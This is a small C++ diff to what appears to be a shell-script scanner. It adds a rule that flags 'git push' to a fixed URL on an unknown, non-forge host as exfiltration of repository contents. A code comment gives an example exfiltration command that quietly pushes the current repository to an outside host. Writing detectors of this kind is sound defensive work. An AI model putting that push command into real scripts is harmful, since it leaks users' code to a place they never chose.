@@ -6,6 +6,7 @@
 #include "code/places.h"
 #include "code/shell_analysis.h"
 #include "code/vendors.h"
+#include "static/shell_judge.h"
 
 namespace interlock::scan::code::shell {
 namespace {
@@ -264,6 +265,12 @@ void Analysis::Pushes(std::uint32_t index) {
     // Everything that was ever written, to an address that the script's user has not chosen.
     ShellUse& use = Emit(ShellAct::kSendSecret, index, to, 1);
     use.steps.emplace_back(command.loc, "sends all branches of the repository");
+    return;
+  }
+  // git push -q https://git.host/stats/$(basename "$PWD").git: to a place that its user has never set up.
+  if (Has(to, "://") && IsFixedPlace(host, to) && !IsKnownService(host) && KindOfHost(host) != HostKind::kForge) {
+    ShellUse& use = Emit(ShellAct::kSendTaken, index, to, 1);
+    use.steps.emplace_back(command.loc, "sends what was written in the repository");
     return;
   }
   Emit(ShellAct::kSend, index, "git push");
